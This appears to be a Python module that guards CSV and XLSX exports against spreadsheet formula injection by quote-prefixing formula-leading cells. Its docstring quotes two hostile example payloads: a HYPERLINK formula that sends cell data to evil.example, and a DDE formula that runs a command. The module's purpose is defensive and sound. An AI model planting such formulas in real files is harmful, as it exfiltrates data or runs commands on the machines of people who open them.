"""Spreadsheet formula injection: cells that Excel, WPS or LibreOffice would run as formulas.

A survey comment such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` or
``=cmd|' /C calc'!A0`` becomes a live formula when an export is opened in a spreadsheet
(CWE-1236). Every file serviq writes for people goes through this module:

- **CSV** — OWASP's rule: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return (or their full-width forms ``＝ ＋ － ＠``, which Chinese input methods
  type and some spreadsheets accept) is prefixed with a single quote ``'``, so the
  spreadsheet shows it as text. Numbers stay numbers (``-2.5`` is a value, not a formula).
- **XLSX** — strings are written as string cells, never as formulas (nor turned into links
  or numbers), and a formula-leading string also gets Excel's *quote prefix* style, so that
  editing the cell does not turn it into a formula either. The text itself is unchanged.

>>> csv_cell("=1+1"), csv_cell("＠SUM(1+1)"), csv_cell("ok"), csv_cell(-2)
("'=1+1", "'＠SUM(1+1)", 'ok', -2)
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

#: What a spreadsheet takes as the start of a formula (OWASP CSV injection), with the
#: full-width forms.
FORMULA_LEADS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(value: Any) -> bool:
    """A text that a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_LEADS)


def csv_cell(value: Any) -> Any:
    """A cell for a CSV file: formula-leading text prefixed with ``'``; anything else as is."""
    return "'" + value if is_formula_like(value) else value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` safe to write as CSV: every text cell (and header) through
    :func:`csv_cell`."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(csv_cell)
    out.columns = [csv_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def xlsx_bytes(sheet: str, columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet as XLSX: a bold header row, strings as strings (module doc), ``None`` as
    an empty cell. Rows may be an iterator: each is written out as it comes (constant
    memory), so a large export is not held twice."""
    import xlsxwriter

    buf = io.BytesIO()
    options = {
        "constant_memory": True,
        "remove_timezone": True,
        "strings_to_formulas": False,
        "strings_to_urls": False,
        "strings_to_numbers": False,
    }
    book = xlsxwriter.Workbook(buf, options)
    ws = book.add_worksheet(sheet[:31])
    bold = book.add_format({"bold": True})
    quoted = book.add_format({"quote_prefix": True})
    quoted_bold = book.add_format({"bold": True, "quote_prefix": True})
    for j, name in enumerate(columns):
        ws.write_string(0, j, str(name), quoted_bold if is_formula_like(str(name)) else bold)
    for i, row in enumerate(rows, start=1):
        for j, value in enumerate(row):
            if value is None or (not isinstance(value, str) and pd.isna(value)):
                continue
            if isinstance(value, str):
                ws.write_string(i, j, value, quoted if is_formula_like(value) else None)
            else:
                ws.write(i, j, value)
    book.close()
    return buf.getvalue()


def write_frame(frame: pd.DataFrame, path: str | Path, *, encoding: str = "utf-8-sig") -> None:
    """Write ``frame`` to ``path`` as CSV or XLSX (by its suffix), neutralised as above."""
    path = Path(path)
    if path.suffix.lower() == ".xlsx":
        rows = frame.astype(object).where(frame.notna(), None).to_numpy().tolist()
        path.write_bytes(xlsx_bytes("Sheet1", [str(c) for c in frame.columns], rows))
    else:
        csv_frame(frame).to_csv(path, index=False, encoding=encoding)
